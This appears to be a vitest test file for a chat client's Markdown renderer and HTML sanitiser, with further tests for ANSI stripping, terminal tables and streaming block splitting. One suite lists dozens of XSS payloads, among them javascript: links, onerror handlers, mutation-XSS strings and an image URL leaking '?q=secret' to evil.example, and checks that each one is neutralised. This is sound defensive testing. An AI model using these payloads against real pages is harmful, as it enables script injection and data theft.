import { describe, expect, it } from "vitest";
import { GrowingBlocks, openFence, split } from "./blocks";
import { renderMarkdown } from "./render";
import { safeLink, sanitise } from "./sanitise";
import { asciiTable, stripAnsi } from "./terminal";

function page(markdown: string): HTMLElement {
  const box = document.createElement("div");
  box.innerHTML = renderMarkdown(markdown);
  return box;
}

describe("what a model may not do (incident 10)", () => {
  const corpus = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](y)',
    '[x](https://a.example "onmouseover=alert(1) x=\\"")',
    '[x](https://a.example" onmouseover="alert(1))',
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<form action=https://evil.example><input name=password></form>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<style>*{background:url(https://evil.example)}</style>",
    '<div style="position:fixed;inset:0">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "<button onclick=alert(1)>x</button>",
    "<a id=__moltis_state>x</a><img name=body>",
    "<x onclick=alert(1) style=a>b</x>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
  ];
  const forbidden =
    "script, style, iframe, object, embed, form, meta, base, svg, math, template, link, video, audio, noscript";

  it.each(corpus)("%s", (text) => {
    for (const html of [renderMarkdown(text), sanitise(text)]) {
      const box = document.createElement("div");
      box.innerHTML = html;
      expect(box.querySelector(forbidden)).toBeNull();
      for (const element of box.querySelectorAll("*")) {
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|^style$|^id$|^name$|^srcdoc$|^action$|^formaction$/);
          if (name === "href") expect(safeLink(value)).toBe(true);
          if (name === "src") expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,|^\/api\/sessions\//);
        }
      }
    }
  });

  it("loads no picture from elsewhere, but links to it", () => {
    const box = page("![chart](https://evil.example/?q=secret)");
    expect(box.querySelector("img")).toBeNull();
    expect(box.querySelector("a")?.textContent).toBe("chart");
  });
});

describe("what Markdown becomes", () => {
  it("opens links in a new tab that cannot reach back", () => {
    const link = page("[docs](https://example.org)").querySelector("a");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("shows HTML as text", () => {
    expect(page("Use <b>bold</b> here").textContent).toContain("<b>bold</b>");
  });

  it("keeps line breaks", () => {
    expect(page("one\ntwo").querySelector("br")).not.toBeNull();
  });

  it("makes a code block with its language", () => {
    const box = page("```rust\nfn main() {}\n```");
    expect(box.querySelector("pre.code-block code")?.getAttribute("data-lang")).toBe("rust");
    expect(box.querySelector(".code-lang-badge")?.textContent).toBe("rust");
    expect(box.querySelector("code")?.textContent).toBe("fn main() {}\n");
  });

  it("makes tables of pipes and of terminal drawings, with inline marks in the cells", () => {
    const drawn = page("+----+-----+\n| \u001b[1mk\u001b[0m  | v   |\n+----+-----+\n| a  | **b** |\n+----+-----+");
    expect(drawn.querySelectorAll("table.msg-table th")).toHaveLength(2);
    expect(drawn.querySelector("td strong")?.textContent).toBe("b");
    expect(drawn.textContent).not.toContain("\u001b");
    expect(
      page("| a | b |\n| --- | ---: |\n| 1 | 2 |").querySelector("table.msg-table td.align-right")?.textContent,
    ).toBe("2");
  });

  it("ticks the boxes of task lists without letting anybody press them", () => {
    const boxes = page("- [x] done\n- [ ] open").querySelectorAll("input");
    expect([...boxes].map((box) => [box.type, box.checked, box.disabled])).toEqual([
      ["checkbox", true, true],
      ["checkbox", false, true],
    ]);
  });
});

describe("terminal text", () => {
  it("loses its colours", () => {
    expect(stripAnsi("\u001b[31mred\u001b[0m \u001b]8;;https://x\u0007link\u001b]8;;\u0007")).toBe("red link");
  });

  it("is no table when a line does not fit", () => {
    expect(asciiTable("+--+\n| a |\nhello\n+--+")).toBeUndefined();
  });
});

describe("growing text", () => {
  const text =
    "# Title\n\nFirst paragraph\nwith two lines.\n\n- a\n- b\n\n  still b\n\n```js\nlet a = 1;\n\nlet b = 2;\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\nLast *one*.";

  it("ends with the same blocks as the whole text, however it is cut", () => {
    for (const size of [1, 3, 7, 50]) {
      const growing = new GrowingBlocks();
      let blocks: string[] = [];
      for (let end = size; end < text.length + size; end += size) blocks = growing.read(text.slice(0, end)).blocks;
      expect(blocks.map((block) => block.trim())).toEqual(split(text).blocks.map((block) => block.trim()));
    }
  });

  it("never changes a closed block", () => {
    const growing = new GrowingBlocks();
    let before: string[] = [];
    for (let end = 1; end <= text.length; end++) {
      const { blocks } = growing.read(text.slice(0, end));
      const closed = blocks.slice(0, -1);
      const earlier = before.slice(0, -1);
      expect(closed.slice(0, earlier.length)).toEqual(earlier);
      before = blocks;
    }
  });

  it("starts anew when the text is another one", () => {
    const growing = new GrowingBlocks();
    growing.read("one paragraph\n\nanother paragraph");
    expect(growing.read("something else").blocks).toEqual(["something else"]);
  });

  it("knows an open fence from a closed one", () => {
    expect(openFence("```js\nlet a")).toEqual({ language: "js", code: "let a" });
    expect(openFence("```js\nlet a\n```")).toBeUndefined();
    expect(openFence("~~~\n```\nx")).toEqual({ language: "", code: "```\nx" });
    expect(openFence("text")).toBeUndefined();
  });
});
